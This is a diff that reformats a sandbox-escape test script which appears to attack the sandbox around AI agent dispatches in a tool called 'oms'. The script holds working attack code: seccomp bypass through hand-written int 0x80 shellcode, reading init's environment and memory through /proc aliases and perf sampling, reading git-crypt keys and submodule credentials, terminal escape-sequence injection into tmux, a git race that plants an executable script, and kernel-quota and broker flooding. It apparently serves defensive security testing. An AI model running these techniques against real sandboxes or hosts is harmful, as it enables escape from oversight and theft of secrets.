@@ -74,7 +74,8 @@ HOOK_FLOOD = 300  # SessionStart hooks the `broker` attacker sends
 
 # ---------------------------------------------------------------------------------------------------- attacker
 ATTACK2 = r'''
-import ctypes, errno, fcntl, json, mmap, os, select, socket, struct, subprocess, sys, termios, threading, time
+import ctypes, errno, fcntl, json, mmap, os, select, socket, struct, subprocess, sys, termios
+import threading, time
 
 T = json.loads(__TARGETS__)
 HOME = os.environ.get("HOME", "/oms/home")
@@ -91,12 +92,15 @@ class Blocked(Exception):
 
 
 def attempt(name, fn):
-    """Like the first round: a description when it worked, OSError/Blocked when blocked, anything else an
-    error in the attack (never counted as blocked)."""
+    """Like the first round: a description when it worked, OSError/Blocked when blocked, anything
+    else an error in the attack (never counted as blocked)."""
     try:
         detail = fn()
     except (OSError, Blocked, subprocess.TimeoutExpired) as exc:
-        RESULTS[name] = {"outcome": "blocked", "detail": (type(exc).__name__ + ": " + str(exc))[:600]}
+        RESULTS[name] = {
+            "outcome": "blocked",
+            "detail": (type(exc).__name__ + ": " + str(exc))[:600],
+        }
     except Exception as exc:
         RESULTS[name] = {"outcome": "error", "detail": (type(exc).__name__ + ": " + str(exc))[:600]}
     else:
@@ -131,29 +135,49 @@ def syscall(nr, *args):
     return r, ctypes.get_errno() if r == -1 else 0
 
 
-# i386 system calls through `int 0x80` from this 64-bit process: f(nr, a1..a5) -> -errno or a result.
-_I386 = bytes([
-    0x53,                    # push rbx
-    0x89, 0xF8,              # mov eax, edi      (nr)
-    0x89, 0xF3,              # mov ebx, esi      (a1)
-    0x41, 0x89, 0xCB,        # mov r11d, ecx     (a3, saved)
-    0x89, 0xD1,              # mov ecx, edx      (a2)
-    0x44, 0x89, 0xDA,        # mov edx, r11d     (a3)
-    0x44, 0x89, 0xC6,        # mov esi, r8d      (a4)
-    0x44, 0x89, 0xCF,        # mov edi, r9d      (a5)
-    0xCD, 0x80,              # int 0x80
-    0x5B,                    # pop rbx
-    0x48, 0x63, 0xC0,        # movsxd rax, eax
-    0xC3,                    # ret
-])
+# i386 system calls through `int 0x80` from this 64-bit process: f(nr, a1..a5) -> -errno or a
+# result.
+_I386 = bytes(
+    [
+        0x53,  # push rbx
+        0x89,
+        0xF8,  # mov eax, edi      (nr)
+        0x89,
+        0xF3,  # mov ebx, esi      (a1)
+        0x41,
+        0x89,
+        0xCB,  # mov r11d, ecx     (a3, saved)
+        0x89,
+        0xD1,  # mov ecx, edx      (a2)
+        0x44,
+        0x89,
+        0xDA,  # mov edx, r11d     (a3)
+        0x44,
+        0x89,
+        0xC6,  # mov esi, r8d      (a4)
+        0x44,
+        0x89,
+        0xCF,  # mov edi, r9d      (a5)
+        0xCD,
+        0x80,  # int 0x80
+        0x5B,  # pop rbx
+        0x48,
+        0x63,
+        0xC0,  # movsxd rax, eax
+        0xC3,  # ret
+    ]
+)
 _CODE = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
 _CODE.write(_I386)
-int80 = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(ctypes.addressof(ctypes.c_char.from_buffer(_CODE)))
+int80 = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(
+    ctypes.addressof(ctypes.c_char.from_buffer(_CODE))
+)
 
 
 def filtered(abi, nr, *args):
     """Does the seccomp filter refuse this call (EPERM before the kernel looks at it)? Arguments are
     harmless should it get through: pid 1 untraced, zero-length vectors."""
+
     def attack():
         args6 = list(args) + [0] * (5 - len(args))
         if abi == "i386":
@@ -164,6 +188,7 @@ def filtered(abi, nr, *args):
         if err == errno.EPERM:
             raise Blocked("refused by the filter (EPERM)")
         return "reached the kernel: returned %d (%s)" % (r, os.strerror(err) if err else "no error")
+
     return attack
 
 
@@ -174,15 +199,20 @@ def read_alias(path):
         if not data:
             raise Blocked("empty")
         return "%s: %r" % (path, data[:80])
+
     return attack
 
 
 NESTED = r"""
 mkdir -p /tmp/p /tmp/p3
-if mount --bind /proc /tmp/p 2>/dev/null; then ls /tmp/p/1 2>/dev/null | grep -q . && echo BIND-PROC-WORKED; fi
+if mount --bind /proc /tmp/p 2>/dev/null; then
+  ls /tmp/p/1 2>/dev/null | grep -q . && echo BIND-PROC-WORKED
+fi
 umount /proc/1 2>/dev/null && ls /proc/1 | grep -q . && echo UMOUNT-WORKED
 umount -l /proc/1 2>/dev/null && ls /proc/1 | grep -q . && echo LAZY-UMOUNT-WORKED
-if mount -t proc proc /tmp/p3 2>/dev/null; then ls /tmp/p3/1 2>/dev/null | grep -q . && echo PROC-MOUNT-WORKED; fi
+if mount -t proc proc /tmp/p3 2>/dev/null; then
+  ls /tmp/p3/1 2>/dev/null | grep -q . && echo PROC-MOUNT-WORKED
+fi
 echo NESTED-RAN
 """
 
@@ -199,25 +229,39 @@ def nested_proc():
 
 
 def perf_read_init():
-    """Sample init's user stack with perf (task clock, PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER, user mode
-    only, as perf_event_paranoid 2 allows) while orphans make it reap; look for its own argv in the samples."""
+    """Sample init's user stack with perf (task clock, PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER,
+    user mode only, as perf_event_paranoid 2 allows) while orphans make it reap; look for its own
+    argv in the samples."""
     attr = bytearray(128)
-    # type SOFTWARE, size, config TASK_CLOCK, sample_period 10 us, sample_type TID|STACK_USER, read_format,
-    # flags exclude_kernel | exclude_hv; sample_stack_user at offset 88
-    struct.pack_into("=IIQQQQQ", attr, 0, 1, 128, 1, 10000, (1 << 1) | (1 << 13), 0, (1 << 5) | (1 << 6))
+    # type SOFTWARE, size, config TASK_CLOCK, sample_period 10 us, sample_type TID|STACK_USER,
+    # read_format, flags exclude_kernel | exclude_hv; sample_stack_user at offset 88
+    struct.pack_into(
+        "=IIQQQQQ", attr, 0, 1, 128, 1, 10000, (1 << 1) | (1 << 13), 0, (1 << 5) | (1 << 6)
+    )
     struct.pack_into("=I", attr, 88, 65528)
     buf = ctypes.create_string_buffer(bytes(attr))
     ctypes.set_errno(0)
-    fd = libc.syscall(ctypes.c_long(298), buf, ctypes.c_long(1), ctypes.c_long(-1), ctypes.c_long(-1), ctypes.c_long(0))
+    fd = libc.syscall(
+        ctypes.c_long(298),
+        buf,
+        ctypes.c_long(1),
+        ctypes.c_long(-1),
+        ctypes.c_long(-1),
+        ctypes.c_long(0),
+    )
     if fd < 0:
-        raise OSError(ctypes.get_errno(), "perf_event_open(pid 1): " + os.strerror(ctypes.get_errno()))
+        raise OSError(
+            ctypes.get_errno(), "perf_event_open(pid 1): " + os.strerror(ctypes.get_errno())
+        )
     pages = 512
     ring = mmap.mmap(fd, (1 + pages) * 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
     found, samples = set(), 0
     deadline = time.monotonic() + 20
     try:
         while not found & {"--args", "bwrap"} and time.monotonic() < deadline:
-            for _ in range(100):  # orphans for init to reap: it runs, and is sampled when in user mode
+            for _ in range(
+                100
+            ):  # orphans for init to reap: it runs, and is sampled when in user mode
                 pid = os.fork()
                 if pid == 0:
                     if os.fork() == 0:
@@ -225,7 +269,7 @@ def perf_read_init():
                     os._exit(0)
                 os.waitpid(pid, 0)
             head = struct.unpack_from("=Q", ring, 1024)[0]
-            data = ring[4096:4096 + min(head, pages * 4096)]
+            data = ring[4096 : 4096 + min(head, pages * 4096)]
             i, samples = 0, 0
             while i + 8 <= len(data):
                 kind, _misc, size = struct.unpack_from("=IHH", data, i)
@@ -233,7 +277,7 @@ def perf_read_init():
                     break
                 if kind == 9:  # PERF_RECORD_SAMPLE: pid, tid, then the stack dump
                     pid, _tid, n = struct.unpack_from("=IIQ", data, i + 8)
-                    stack = data[i + 24:i + 24 + n]
+                    stack = data[i + 24 : i + 24 + n]
                     samples += 1
                     for needle in (b"--args", b"bwrap", b"--seccomp", b"OMS_DISPATCH_ID="):
                         if pid == 1 and needle in stack:
@@ -243,7 +287,10 @@ def perf_read_init():
         ring.close()
         os.close(fd)
     if found & {"--args", "bwrap"}:
-        return "%d samples of pid 1's user stack hold %s (init's own argv and environment)" % (samples, sorted(found))
+        return "%d samples of pid 1's user stack hold %s (init's own argv and environment)" % (
+            samples,
+            sorted(found),
+        )
     raise Blocked("%d samples, none with init's argv" % samples)
 
 
@@ -255,8 +302,8 @@ def kcmp_init():
 
 
 def foreign_foreground():
-    """Make any process group this sandbox cannot see (a host one: the supervisor's, tmux's) the terminal's
-    foreground. A success would let the terminal's keys and job control reach it."""
+    """Make any process group this sandbox cannot see (a host one: the supervisor's, tmux's) the
+    terminal's foreground. A success would let the terminal's keys and job control reach it."""
     fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
     visible = {int(p) for p in os.listdir("/proc") if p.isdigit()}
     own = os.tcgetpgrp(fd)
@@ -272,13 +319,17 @@ def foreign_foreground():
             except OSError:
                 pass
     finally:
-        if own > 0:  # 0: the foreground group is not in this PID namespace (nothing to restore from here)
+        if (
+            own > 0
+        ):  # 0: the foreground group is not in this PID namespace (nothing to restore from here)
             os.tcsetpgrp(fd, own)
         os.close(fd)
     SEEN["foreground_tried"] = limit - 2 - len(visible)
     if took:
         return took[:20]
-    raise Blocked("tcsetpgrp refused for all %d process groups outside the sandbox" % SEEN["foreground_tried"])
+    raise Blocked(
+        "tcsetpgrp refused for all %d process groups outside the sandbox" % SEEN["foreground_tried"]
+    )
 
 
 def secret_in(path, needle):
@@ -288,17 +339,34 @@ def secret_in(path, needle):
         if needle.encode() in data:
             return "%s holds the secret: %r" % (path, data[:120])
         raise Blocked("readable, but without the secret")
+
     return attack
 
 
 # ------------------------------------------------------------------------------ the doors, raw
 def header(door, argv):
-    return b"oms-relay-1\0" + door.encode() + b"\0" + str(len(argv)).encode() + b"\0" + b"".join(
-        a.encode() + b"\0" for a in argv)
+    return (
+        b"oms-relay-1\0"
+        + door.encode()
+        + b"\0"
+        + str(len(argv)).encode()
+        + b"\0"
+        + b"".join(a.encode() + b"\0" for a in argv)
+    )
 
 
-HOOK_ARGV = ["--provider", "command", "--provider-version", "command-1", "--dispatch-id", D, "--session-id", S,
-             "--allowed-tools", ""]
+HOOK_ARGV = [
+    "--provider",
+    "command",
+    "--provider-version",
+    "command-1",
+    "--dispatch-id",
+    D,
+    "--session-id",
+    S,
+    "--allowed-tools",
+    "",
+]
 
 
 def hook(event, **fields):
@@ -325,8 +393,14 @@ class Bridge:
         self.s.sendall(header("bridge", ["--dispatch-id", D, "--session-id", S]))
         self.f = self.s.makefile("rb")
         self.n = 0
-        self.request("initialize", {"protocolVersion": version, "capabilities": {},
-                                    "clientInfo": {"name": "round2", "version": "1"}})
+        self.request(
+            "initialize",
+            {
+                "protocolVersion": version,
+                "capabilities": {},
+                "clientInfo": {"name": "round2", "version": "1"},
+            },
+        )
         self.send_raw(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')
 
     def send_raw(self, data):
@@ -370,8 +444,14 @@ def everything():
     for what, numbers, args in calls:
         for abi, nr in sorted(numbers.items()):
             attempt("init: %s through the %s ABI" % (what, abi), filtered(abi, nr, *args))
-    for path in ("/proc/1/environ", "/proc/1/task/1/mem", "/proc/self/../1/environ",
-                 "/proc/thread-self/../../1/status", "/proc/self/root/proc/1/environ", "/proc/2/../1/cmdline"):
+    for path in (
+        "/proc/1/environ",
+        "/proc/1/task/1/mem",
+        "/proc/self/../1/environ",
+        "/proc/thread-self/../../1/status",
+        "/proc/self/root/proc/1/environ",
+        "/proc/2/../1/cmdline",
+    ):
         attempt("init: read " + path, read_alias(path))
     attempt("init: uncover /proc/1 in a nested user and mount namespace", nested_proc)
     # 2. what inspects init without being ptrace's kin
@@ -381,11 +461,16 @@ def everything():
     attempt("terminal: make a process group outside the sandbox the foreground", foreign_foreground)
     # 4. secrets kept in the git common dir beside the sanitised config
     common = T["common"]
-    attempt("common: read a submodule's remote credentials (modules/vendor/config)",
-            secret_in(common + "/modules/vendor/config", T["module_secret"]))
-    attempt("common: read the repository's git-crypt key (git-crypt/keys/default)",
-            secret_in(common + "/git-crypt/keys/default", T["crypt_key"]))
-    # 5. files left for oms to commit on the host: attributes naming the user's git-lfs filter, links out
+    attempt(
+        "common: read a submodule's remote credentials (modules/vendor/config)",
+        secret_in(common + "/modules/vendor/config", T["module_secret"]),
+    )
+    attempt(
+        "common: read the repository's git-crypt key (git-crypt/keys/default)",
+        secret_in(common + "/git-crypt/keys/default", T["crypt_key"]),
+    )
+    # 5. files left for oms to commit on the host: attributes naming the user's git-lfs filter,
+    #    links out
     with open(".gitattributes", "w") as f:
         f.write("*.dat filter=lfs diff=lfs merge=lfs -text\n")
     with open("payload.dat", "w") as f:
@@ -396,9 +481,12 @@ def everything():
 
 
 def terminal():
-    """Push a command into the pane's terminal and exit, leaving it unread; print what could make tmux act."""
+    """Push a command into the pane's terminal and exit, leaving it unread; print what could make
+    tmux act."""
     out = sys.stdout
-    out.write("\x1b]52;c;%s\x07" % "dG91Y2ggL3RtcC9wd25lZA==")  # OSC 52: set the clipboard / a tmux buffer
+    out.write(
+        "\x1b]52;c;%s\x07" % "dG91Y2ggL3RtcC9wd25lZA=="
+    )  # OSC 52: set the clipboard / a tmux buffer
     out.write("\x1bPtmux;\x1b\x1b]52;c;cHduZWQ=\x07\x1b\\")  # DCS passthrough to the outer terminal
     out.write("\x1b]2;%s\x07" % T["victim"])  # the pane title: another dispatch's id
     out.write("\x1bk%s\x1b\\" % T["victim"])  # the window name (allow-rename)
@@ -413,8 +501,9 @@ def terminal():
 
 
 def gitlink():
-    """Leave a repository that is no repository while oms looks for one (`git ls-files --others`), and
-    becomes one, by a rename, before oms's `git add --all`: inotify tells when oms's git has read it."""
+    """Leave a repository that is no repository while oms looks for one (`git ls-files --others`),
+    and becomes one, by a rename, before oms's `git add --all`: inotify tells when oms's git has
+    read it."""
     hook("SessionStart", source="startup")
     bridge = Bridge()
     bridge.call("read_dispatch")
@@ -432,7 +521,9 @@ def gitlink():
         rc, out = run(cmd)
         if rc:
             raise SystemExit("%s: %s" % (cmd, out))
-    script = sub + "/clean.sh"  # planted after the commit: only a later `git status` inside would run it
+    script = (
+        sub + "/clean.sh"
+    )  # planted after the commit: only a later `git status` inside would run it
     with open(script, "w") as f:
         f.write("#!/bin/sh\nid -u > '%s'\ncat\n" % T["loot"])
     os.chmod(script, 0o755)
@@ -445,7 +536,11 @@ def gitlink():
 
     def record():
         try:
-            answer.update(bridge.call("record_dispatch_result", {"status": "completed", "summary": "Vendored it."}))
+            answer.update(
+                bridge.call(
+                    "record_dispatch_result", {"status": "completed", "summary": "Vendored it."}
+                )
+            )
         except Exception as exc:
             answer["exception"] = repr(exc)
 
@@ -461,10 +556,12 @@ def gitlink():
         i = 0
         while i < len(buf):
             _wd, mask, _cookie, size = struct.unpack_from("iIII", buf, i)
-            name = buf[i + 16:i + 16 + size].rstrip(b"\0").decode()
+            name = buf[i + 16 : i + 16 + size].rstrip(b"\0").decode()
             i += 16 + size
             events.append([mask, name])
-            if mask & 0x10 and name == "" and not swapped:  # oms's git closed the directory: it has read it
+            if (
+                mask & 0x10 and name == "" and not swapped
+            ):  # oms's git closed the directory: it has read it
                 os.rename(sub + "/.git.parked", sub + "/.git")
                 swapped = True
     worker.join(120)
@@ -500,8 +597,10 @@ def resources():
         st = os.statvfs(path)
         sizes[path] = st.f_blocks * st.f_frsize
     SEEN["tmpfs_sizes"] = sizes
-    rc, out = run("unshare -Urm sh -c 'mkdir -p /tmp/big && mount -t tmpfs -o size=1T none /tmp/big && "
-                  "stat -f -c \"%b %S\" /tmp/big'")
+    rc, out = run(
+        "unshare -Urm sh -c 'mkdir -p /tmp/big && mount -t tmpfs -o size=1T none /tmp/big && "
+        'stat -f -c "%b %S" /tmp/big\''
+    )
     SEEN["nested_tmpfs"] = [rc, out.strip()[-200:]]
     publish("memory-ready.json", {})
     wait_go("memory-baseline")
@@ -512,8 +611,9 @@ def resources():
     publish("memory-filled.json", {"bytes": os.path.getsize("/tmp/fill")})
     wait_go("memory-measured")
     os.unlink("/tmp/fill")
-    # per-user kernel quotas, counted for the host user the agent maps to (up the user-namespace chain, or
-    # by kernel uid): inotify instances, key bytes, POSIX message-queue bytes. Take all of each, then hold.
+    # per-user kernel quotas, counted for the host user the agent maps to (up the user-namespace
+    # chain, or by kernel uid): inotify instances, key bytes, POSIX message-queue bytes. Take all of
+    # each, then hold.
     held = {}
     fds, err = [], None
     while len(fds) < 100000:
@@ -525,8 +625,14 @@ def resources():
     held["inotify"] = [len(fds), err]
     keys, size, err = 0, 32000, None
     while size >= 1 and keys < 100000:  # big keys first, then ever smaller ones for what is left
-        r = libc.syscall(ctypes.c_long(248), b"user", b"r2-%d" % keys, b"k" * size, ctypes.c_long(size),
-                         ctypes.c_long(-2))  # add_key into the process keyring
+        r = libc.syscall(
+            ctypes.c_long(248),
+            b"user",
+            b"r2-%d" % keys,
+            b"k" * size,
+            ctypes.c_long(size),
+            ctypes.c_long(-2),
+        )  # add_key into the process keyring
         if r < 0:
             err = os.strerror(ctypes.get_errno())
             size //= 2
@@ -535,14 +641,24 @@ def resources():
     held["keys"] = [keys, err]
 
     class MqAttr(ctypes.Structure):
-        _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long),
-                    ("curmsgs", ctypes.c_long), ("pad", ctypes.c_long * 4)]
+        _fields_ = [
+            ("flags", ctypes.c_long),
+            ("maxmsg", ctypes.c_long),
+            ("msgsize", ctypes.c_long),
+            ("curmsgs", ctypes.c_long),
+            ("pad", ctypes.c_long * 4),
+        ]
 
     queues, err = [], None
     shapes = [(10, 8192 >> i) for i in range(14)] + [(1, 1)]  # ever smaller queues for what is left
     while shapes and len(queues) < 250:  # an IPC namespace holds 256 queues
         name = b"/r2-%d" % len(queues)
-        fd = libc.mq_open(name, os.O_CREAT | os.O_RDWR, ctypes.c_int(0o600), ctypes.byref(MqAttr(0, *shapes[0], 0)))
+        fd = libc.mq_open(
+            name,
+            os.O_CREAT | os.O_RDWR,
+            ctypes.c_int(0o600),
+            ctypes.byref(MqAttr(0, *shapes[0], 0)),
+        )
         if fd < 0:
             err = os.strerror(ctypes.get_errno())
             shapes.pop(0)
@@ -553,7 +669,9 @@ def resources():
     wait_go("quotas-checked")
     for fd in fds:
         os.close(fd)
-    libc.syscall(ctypes.c_long(250), ctypes.c_long(7), ctypes.c_long(-2))  # keyctl(KEYCTL_CLEAR, process keyring)
+    libc.syscall(
+        ctypes.c_long(250), ctypes.c_long(7), ctypes.c_long(-2)
+    )  # keyctl(KEYCTL_CLEAR, process keyring)
     for name in queues:
         libc.mq_unlink(name)
     # disk: fill the home and the worktree (files each under the largest file a sandbox may write)
@@ -580,18 +698,32 @@ def broker():
     seen["deep_array"] = old.reply()
     old.send_raw(b'{"a":' * 150000 + b"\n")
     seen["deep_object"] = old.reply()
-    batch = b"[" + b",".join(b'{"jsonrpc":"2.0","id":%d,"method":"ping"}' % i for i in range(10000)) + b"]\n"
+    batch = (
+        b"["
+        + b",".join(b'{"jsonrpc":"2.0","id":%d,"method":"ping"}' % i for i in range(10000))
+        + b"]\n"
+    )
     t0 = time.monotonic()
     old.send_raw(batch)
     answer = old.reply()
-    seen["batch_pings"] = [len(answer) if isinstance(answer, list) else answer, time.monotonic() - t0]
-    calls = b",".join(b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"read_dispatch"}}' % i
-                      for i in range(200))
+    seen["batch_pings"] = [
+        len(answer) if isinstance(answer, list) else answer,
+        time.monotonic() - t0,
+    ]
+    calls = b",".join(
+        b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"read_dispatch"}}' % i
+        for i in range(200)
+    )
     t0 = time.monotonic()
     old.send_raw(b"[" + calls + b"]\n")
     answer = old.reply()
-    seen["batch_reads"] = [len(answer) if isinstance(answer, list) else answer, time.monotonic() - t0]
-    old.send_raw(b'{"jsonrpc":"2.0","id":7,"method":"ping"}\n{"jsonrpc":"2.0","id":7,"method":"ping"}\n')
+    seen["batch_reads"] = [
+        len(answer) if isinstance(answer, list) else answer,
+        time.monotonic() - t0,
+    ]
+    old.send_raw(
+        b'{"jsonrpc":"2.0","id":7,"method":"ping"}\n{"jsonrpc":"2.0","id":7,"method":"ping"}\n'
+    )
     seen["duplicate_ids"] = [old.reply(), old.reply()]
     old.close()
     fresh = Bridge()
@@ -602,9 +734,15 @@ def broker():
     wait_go("hooks")
     t0 = time.monotonic()
     answers = [hook("SessionStart", source="startup") for _ in range(T["hook_flood"])]
-    publish("hooks-sent.json", {"sent": len(answers), "seconds": time.monotonic() - t0,
-                                "answered": sum(a.partition(b"\n")[2].startswith(b"{") for a in answers),
-                                "applied": sum(b"read_dispatch" in a for a in answers)})
+    publish(
+        "hooks-sent.json",
+        {
+            "sent": len(answers),
+            "seconds": time.monotonic() - t0,
+            "answered": sum(a.partition(b"\n")[2].startswith(b"{") for a in answers),
+            "applied": sum(b"read_dispatch" in a for a in answers),
+        },
+    )
     # a session that makes its broker keep everything it sends (each method name is logged, forever)
     session = Bridge()
     publish("session-open.json", {})
